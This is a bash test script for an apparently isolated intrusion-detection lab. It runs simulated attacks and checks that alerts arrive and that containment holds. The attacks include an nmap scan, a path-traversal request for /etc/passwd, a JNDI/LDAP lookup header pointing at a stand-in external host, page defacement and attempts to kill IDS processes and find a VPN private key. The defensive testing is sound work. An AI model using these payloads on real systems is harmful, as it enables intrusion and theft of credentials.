# shellcheck shell=bash
# The attacks, and what came of each, measured where it would show.

attack() {
    attack_servers
    attack_ids_from_server
    attack_from_ids
    step 'checking that the VPNs still carry alerts'
    still_watching
    end_step
}

# ---- What the IDSs should see

attack_servers() {
    step 'port scan of web1 and web2'
    logged on attacker nmap -n -Pn -sS --max-retries 1 -p 1-1000 \
        "${address[web1]}" "${address[web2]}" || die 'nmap failed'
    expect_alerts 'port scan (nmap -sS)' nids 'demo port scan' "${watched[@]}"

    step 'web exploits against web1 and web2'
    local host
    for host in "${watched[@]}"; do
        logged on attacker curl -sS -m 5 -o /dev/null --path-as-is \
            "http://${address[$host]}/../../etc/passwd" || die 'curl failed'
        # shellcheck disable=SC2016  # the exploit's own dollar sign
        logged on attacker curl -sS -m 5 -o /dev/null -H 'X-Api-Version: ${jndi:ldap://192.0.2.66/a}' \
            "http://${address[$host]}/" || die 'curl failed'
    done
    expect_alerts 'path traversal (curl)' nids 'demo path traversal' "${watched[@]}"
    expect_alerts 'JNDI in a header (curl)' nids 'demo JNDI lookup' "${watched[@]}"

    step 'changing a page of web1'
    as_www_in_server web1 sh -c 'echo "<h1>defaced</h1>" >>/srv/www/index.html'
    expect_alerts 'page changed by www-data' fim '/.serverfs/site/index.html' web1
}

# WHAT PORTSPACE TEXT HOST…: an alert with that text from each of the hosts, at both collectors.
expect_alerts() {
    local what=$1 portspace=$2 text=$3 set
    shift 3
    for set in "${sets[@]}"; do expect_alert "$set" "$what" "$portspace" "$text" "$@"; done
}

expect_alert() {
    local set=$1 what=$2 portspace=$3 text=$4 host holds=0 happened=() began=$SECONDS
    shift 4
    for host in "$@"; do
        if within 20 has_alert "$set" "$host" "$text"; then
            happened+=("$host: within $((SECONDS - began + 1)) s")
        else
            holds=1 happened+=("$host: none in 20 s")
        fi
    done
    row 'What the IDSs should see' "$what, $(listed ' and ' "$@")" \
        "alert at $set's collector" "$(listed ', ' "${happened[@]}")" $holds
}

# listed SEPARATOR WORD…
listed() {
    local text=$2 word
    for word in "${@:3}"; do text+=$1$word; done
    echo "$text"
}

# ---- From a broken-into server against the IDSs

# What each verb of the attacker's program means, and what should come of it.
declare -rA trying=(
    [find]='find them (processes, sockets)' [kill]='stop and kill them'
    [read]='read their memory, files and keys' [reach]='reach them (VPN, sockets, network)'
)
declare -rA nothing=([find]='none found' [kill]='none hit' [read]='nothing read' [reach]='none reached')

attack_ids_from_server() {
    local verb
    for verb in find kill read reach; do
        from_server 'web server' 'www-data' "$verb" as_www_in_server web1
        from_server 'web server' 'root of a user namespace' "$verb" as_foreign_root web1-server
    done
    # The base system's own procfs shows what runs on the machine, so nothing is tried about finding.
    for verb in kill read reach; do
        from_server 'base system' 'www-data' "$verb" as_www_in_base web1
        from_server 'base system' 'root of a user namespace' "$verb" as_foreign_root web1-base
    done
}

# PLACE WHO VERB RUNNER ARGUMENT
from_server() {
    local place=$1 who=$2 verb=$3 runner=$4 argument=$5 output before after holds=0 got tried
    # In the base system the names would also find what else the machine runs.
    local names=suricata,aide,rsyslogd,hyperspector
    [[ $place != base* ]] || names=
    step "from web1's $place, $who against the IDSs: $verb"
    before=$(steady web1)
    output=$("$runner" "$argument" env LC_ALL=C perl -e "$(<"$demo/attacks/on-ids.pl")" "$verb" \
        "names=$names" \
        "pids=$(ids_pids web1 | paste -sd,)" \
        "paths=$(hyperspector_paths web1 | paste -sd,)" \
        "sockets=$(hyperspector_sockets web1 | paste -sd,)" \
        "addresses=$(ids_addresses web1 | paste -sd,)" \
        "ports=51820,51821" 2>>"$log") || holds=1
    printf '%s\n' "$output" >>"$log"
    got=$(grep -c '^got ' <<<"$output") || true
    tried=$(sed -n 's/^tried //p' <<<"$output")
    ((got == 0 && ${tried:-0} > 0)) || holds=1
    after=$(steady web1)
    [[ $before == "$after" ]] || { holds=1 output+=$'\ngot an IDS to end or start again'; }
    row "From web1's $place against alpha's and beta's IDSs" "${trying[$verb]}, as $who" \
        "${nothing[$verb]}" "$(summary "$got" "$tried" "$output")" $holds
}

# "0 of 35: No such file or directory, Permission denied", or the first things that it got.
summary() {
    local got=$1 tried=$2 output=$3 why
    if ((got)); then
        why=$(sed -n 's/^got //p' <<<"$output" | head -n 3 | paste -sd, | sed 's/,/, /g')
    else
        why=$(sed -n 's/^no //p' <<<"$output" | sort | uniq -c | sort -rn | sed 's/^ *[0-9]* //' |
            head -n 3 | paste -sd, | sed 's/,/, /g')
    fi
    printf '%s of %s%s' "$got" "${tried:-?}" "${why:+: $why}"
}

hyperspector_paths() {
    local directory
    for directory in "$work/$1/state" "$work/$1/run"; do
        echo "$directory"
        find "$directory" -maxdepth 6 \( -name '*.key' -o -name upper -o -name 'log.*' -o -name '*.json' \) -print
    done
}

hyperspector_sockets() { find "$work/$1/run" -type s; }

ids_addresses() { hs "$1" status --json | jq -r '.hyperspectors[].portspaces[].address' | sort -u; }

# ---- From a taken IDS against everything else

attack_from_ids() {
    write_from alpha/nids
    signal_from alpha/nids
    send_packets_from alpha/nids
    reach_beta_from alpha/nids
    reach_outside_from alpha/nids
    read_key_from alpha/nids
    # This one has a window on the server's files.
    write_from alpha/fim
    read_key_from alpha/fim
}

# Runs the attacker's program in a portspace on web1.
from_ids() {
    local ids=$1
    shift
    # shellcheck disable=SC2094  # both only append
    inside web1 "$ids" perl -e "$(<"$demo/attacks/from-ids.pl")" "$@" 2>>"$log" | tee -a "$log"
}

ids_row() { row "From web1's $1, taken, as root" "${@:2}"; }

# The server's files, by everything about them that could change.
site_of() {
    (cd "$work/$1/www" && find . -printf '%p %y %m %U %G %s %T@ %C@\n' | sort &&
        find . -type f -exec sha256sum {} + | sort)
}

write_from() {
    local ids=$1 output before holds=0 got tried
    step "from $ids: writing the web server's files"
    before=$(site_of web1)
    output=$(from_ids "$ids" write /.serverfs/site "$work/web1/www" /srv/www) || true
    tried=$(sed -n 's/^tried //p' <<<"$output")
    got=$(grep -c '^got .*/\.serverfs/' <<<"$output") || true
    ((got == 0 && ${tried:-0} > 0)) || holds=1
    if [[ $before != "$(site_of web1)" ]]; then
        holds=1
        ids_row "$ids" "write the web server's files" 'nothing changed' 'the files differ' 1
    else
        ids_row "$ids" "write the web server's files" 'nothing changed' \
            "the files are the same after ${tried:-0} tries" $holds
    fi
}

signal_from() {
    local ids=$1 output pids before holds=0
    step "from $ids: signalling the web server"
    pids=$(descendants "${server[web1]}")
    before=$(start_times "$pids")
    # shellcheck disable=SC2086  # one argument for each process
    output=$(from_ids "$ids" signal $pids "${holder[web1]}" 1) || holds=1
    [[ $before == "$(start_times "$pids")" ]] && ! grep -q '^got ' <<<"$output" || holds=1
    serves web1 || holds=1
    ids_row "$ids" 'kill nginx, and all else beyond its own' 'nothing hit' \
        "$(hit "$holds" "nginx ($(wc -w <<<"$pids") processes) lives and serves")" $holds
}

hit() { if (($1)); then echo 'hit, or not tried; see the log'; else echo "$2"; fi; }

start_times() {
    local pid
    for pid in $1; do echo "$pid $(start_time "$pid")"; done
}

# A capture on the attacker's interface while a command runs; prints what arrived. What the command
# printed is in $work/output.
captured() {
    local filter=$1 file tcpdump
    shift
    file=$(mktemp "$work/capture.XXXXXX")
    become_on attacker tcpdump -i eth0 -n -l --immediate-mode "$filter" >"$file" 2>"$file.errors" &
    tcpdump=$!
    remember "$tcpdump"
    within 5 grep -q 'listening on' "$file.errors" || die 'tcpdump does not start'
    "$@" >"$work/output" || true
    sleep 0.3
    kill "$tcpdump"
    within 5 has_ended "$tcpdump" || true
    cat "$file"
}

# How many lines are not empty.
lines() { grep -c . || true; }

# The same attempts from web1's base system as its real root: without that, seeing nothing would
# prove nothing.
from_base() {
    on web1 perl -e "$(<"$demo/attacks/from-ids.pl")" "$@" 2>>"$log"
}

send_packets_from() {
    local ids=$1 filter='ether proto 0x88b5 or ip proto 255' control arrived stopped holds=0
    step "from $ids: sending raw packets"
    control=$(captured "$filter" from_base packets control | lines)
    stopped=$(stopped_by_guard)
    arrived=$(captured "$filter" from_ids "$ids" packets "$ids" | lines)
    stopped=$(($(stopped_by_guard) - stopped))
    ((control > 0 && arrived == 0)) && grep -q '^tried ' "$work/output" || holds=1
    ids_row "$ids" 'send raw packets (AF_PACKET, raw IP) on eth0' 'none arrive at the attacker' \
        "$arrived arrived, $stopped stopped by the guard; of the base system's $control arrived" $holds
}

stopped_by_guard() { hs web1 status --json | jq '.guard.dropped // 0'; }

reach_beta_from() {
    local ids=$1 mark holds=0 in_beta in_alpha targets
    step "from $ids: reaching beta's portspaces"
    mark="written by $ids, taken ($RANDOM)"
    mapfile -t targets < <(printf '10.66.0.%d:10514\n' {1..254})
    from_ids "$ids" connect "$mark" "${targets[@]}" >/dev/null || holds=1
    within 5 grep_alerts alpha "$mark" || true
    in_alpha=$(alerts alpha | grep -cF "$mark") || true
    in_beta=$(alerts beta | grep -cF "$mark") || true
    ((in_alpha > 0 && in_beta == 0)) || holds=1
    ids_row "$ids" "reach beta's collector (TCP and UDP to all of 10.66.0.0/24)" \
        "nothing; alpha's own has the same network" \
        "$in_beta line(s) at beta/collector, $in_alpha at alpha/collector" $holds
}

grep_alerts() { alerts "$1" | grep -qF "$2"; }

reach_outside_from() {
    local ids=$1 mark="outside-$RANDOM" filter control arrived connected holds=0 host targets=()
    step "from $ids: reaching the hosts"
    for host in "${hosts[@]}"; do targets+=("${address[$host]}:4444" "${address[$host]}:80"); done
    # What web1 begins, and nothing of what it answers.
    filter="src host ${address[web1]} or src net 10.66.0.0/24"
    filter="($filter) and (icmp[icmptype] == icmp-echo or udp or tcp[tcpflags] & (tcp-syn|tcp-ack) == tcp-syn)"
    control=$(captured "$filter" from_base connect "$mark" "${targets[@]}" | lines)
    arrived=$(captured "$filter" from_ids "$ids" connect "$mark" "${targets[@]}" 127.0.0.1:80 | lines)
    connected=$(grep -c '^got ' "$work/output") || true
    ((control > 0 && arrived == 0 && connected == 0)) && grep -q '^tried ' "$work/output" || holds=1
    ids_row "$ids" "reach the hosts (TCP, UDP, ping; web1's own nginx too)" 'nothing' \
        "$arrived packets at the attacker (the base system's: $control), $connected connections" $holds
}

# By its path, and among all files that the portspace can see.
read_key_from() {
    local ids=$1 key digest output holds=0 found searched
    step "from $ids: looking for the VPN's private key"
    key=$(find "$work/web1/state" -name 'alpha.key' | head -n 1)
    [[ $key ]] || die 'web1 has no private key for alpha'
    digest=$(sha256sum <"$key") digest=${digest%% *}
    output=$(from_ids "$ids" key "$key" "$work/web1/state" "$work/web1/run") || holds=1
    grep -q '^got ' <<<"$output" && holds=1
    searched=$(inside web1 "$ids" sh -c 'find / -xdev -type f -size -2 -exec sha256sum {} + 2>/dev/null; true') || holds=1
    found=$(grep -c "^$digest " <<<"$searched") || true
    ((found == 0)) || holds=1
    ids_row "$ids" "read alpha's private VPN key" 'nothing' \
        "0 of $(sed -n 's/^tried //p' <<<"$output") paths; $found of $(wc -l <<<"$searched") small files hold it" $holds
}

# ---- After all that

still_watching() {
    local set host
    for host in "${watched[@]}"; do
        logged on attacker curl -sS -m 5 -o /dev/null --path-as-is \
            "http://${address[$host]}/after/../../../etc/passwd" || die 'curl failed'
    done
    for set in "${sets[@]}"; do one_more_alert_each "$set"; done
}

one_more_alert_each() {
    local set=$1 host holds=0 happened=()
    for host in "${watched[@]}"; do
        if within 20 more_than_one "$set" "$host"; then happened+=("$host: yes"); else
            holds=1 happened+=("$host: none in 20 s")
        fi
    done
    row 'After all that' 'path traversal again, web1 and web2' "alert at $set's collector" \
        "$(listed ', ' "${happened[@]}")" $holds
}

more_than_one() {
    local count
    count=$(alerts "$1" | grep -F ".$2 " | grep -cF 'demo path traversal') || true
    ((count > 1))
}
